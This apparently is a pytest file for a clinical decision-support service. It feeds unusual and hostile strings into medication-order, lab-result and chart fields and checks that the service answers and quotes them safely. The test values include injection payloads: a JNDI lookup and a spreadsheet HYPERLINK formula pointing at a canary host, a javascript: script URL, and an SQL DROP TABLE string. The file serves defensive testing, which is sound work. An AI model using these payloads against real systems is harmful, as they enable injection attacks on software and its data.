"""Layer: output text. Foreign words in every place that a card, a suggestion or the coverage record may quote."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from cds_service.wire.parse import encode
from tests.cards.hostile import HIDDEN, HOSTILE
from tests.cards.rendering import visible
from tests.hostile.calls import Json, bent, bundle, fixture, order_in, result, with_dosage
from tests.hostile.oracles import held, without_drafts
from tests.hostile.running import Running
from tests.line.answers import strings

# A lone surrogate cannot be sent: it is no JSON in UTF-8, and test_json.py sees it refused.
WORDS = {
    **HOSTILE,
    **{name: raw for name, (raw, _) in HIDDEN.items() if name != "lone surrogate"},
    "a template": "{{context.patientId}} {order} ${jndi:ldap://canary.example} %s %n",
    "a line of a log": '\n{"level": "error", "event": "canary"}\n',
    "a formula": '=HYPERLINK("https://canary.example")',
    "a script in an address": "javascript:alert(1) data:text/html,<script>",
    "a query": "'; DROP TABLE cards; --",
    "an emoji of several parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "stacked accents": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 50,
    "10,000 characters": "*x* " * 2500,
    "60 KB in one word": "x" * 60_000,
    "other scripts": "\u0648\u064a\u062a\u0627\u0645\u064a\u0646 \u30d3\u30bf\u30df\u30f3",
}
Place = Callable[[Json, str], None]


def product(call: Json, text: str) -> None:
    order_in(call)["medicationCodeableConcept"]["text"] = text


def display(call: Json, text: str) -> None:
    order_in(call)["medicationCodeableConcept"]["coding"][0]["display"] = text


def sig(call: Json, text: str) -> None:
    order_in(call)["dosageInstruction"] = [{"text": text}]


def unit(call: Json, text: str) -> None:
    order_in(call)["dosageInstruction"][0]["doseAndRate"][0]["doseQuantity"] = {"value": 1, "unit": text}


def reason(call: Json, text: str) -> None:
    order_in(call)["reasonCode"] = [{"text": text}]
    order_in(call)["note"] = [{"text": text}]


def order_id(call: Json, text: str) -> None:
    order_in(call)["id"] = text


def result_name(call: Json, text: str) -> None:
    call["prefetch"]["observations"] = bundle(result(code={**result()["code"], "text": text}))


def result_value(call: Json, text: str) -> None:
    call["prefetch"]["observations"] = bundle(result(valueQuantity=None, valueString=text))


def result_unit(call: Json, text: str) -> None:
    call["prefetch"]["observations"] = bundle(result(valueQuantity={"value": 120, "unit": text}))


def result_id(call: Json, text: str) -> None:
    call["prefetch"]["observations"] = bundle(result(id=text))


def condition(call: Json, text: str) -> None:
    call["prefetch"]["conditions"]["entry"][0]["resource"]["code"]["text"] = text


def planned(call: Json, text: str) -> None:
    for entry in call["prefetch"]["serviceRequests"]["entry"]:
        entry["resource"]["code"]["text"] = text


def type_in_chart(call: Json, text: str) -> None:
    call["prefetch"]["observations"] = bundle({"resourceType": text or "canary", "id": "a"})


def instance(call: Json, text: str) -> None:
    call["hookInstance"] = text[:90] + "x"


PLACES: tuple[Place, ...] = (
    product,
    display,
    sig,
    unit,
    reason,
    order_id,
    result_name,
    result_value,
    result_unit,
    result_id,
    condition,
    planned,
    type_in_chart,
    instance,
)


# Two calls over HTTP each: all pairs take minutes. Words are escaped alike wherever they stand, so each place meets
# every third word, beginning with another one than the place before: every word is met in a third of the places.
MET = [
    pytest.param(place, text, id=f"{place.__name__}-{name}")
    for number, place in enumerate(PLACES)
    for name, text in list(WORDS.items())[number % 3 :: 3]
]


@pytest.mark.parametrize(("place", "text"), MET)
def test_foreign_words_stay_words_wherever_they_stand(service: Running, place: Place, text: str) -> None:
    body = bent(lambda call: place(call, text))
    answer = held(service, lambda: service.post(body))

    assert 200 == answer.status
    assert [] == [text for text in strings(without_drafts(answer.body)) if len(text) > 4000]


@pytest.mark.parametrize("text", WORDS.values(), ids=WORDS)
def test_with_two_orders_a_summary_that_names_its_order_is_still_one_line(service: Running, text: str) -> None:
    call = fixture("two-injections-named")
    for entry in call["context"]["draftOrders"]["entry"]:
        entry["resource"]["medicationCodeableConcept"]["text"] = text
    answer = held(service, lambda: service.post(encode(call)))

    assert 200 == answer.status


def test_a_comparison_in_the_chart_is_quoted_whole(service: Running) -> None:
    sig_text = "if warfarin<INR 2 & platelets>50"
    answer = held(service, lambda: service.post(with_dosage(text=sig_text)))

    assert any("INR 2" in visible(card["detail"]) for card in answer.body["cards"])
    assert any("<INR" in visible(card["detail"]) for card in answer.body["cards"])
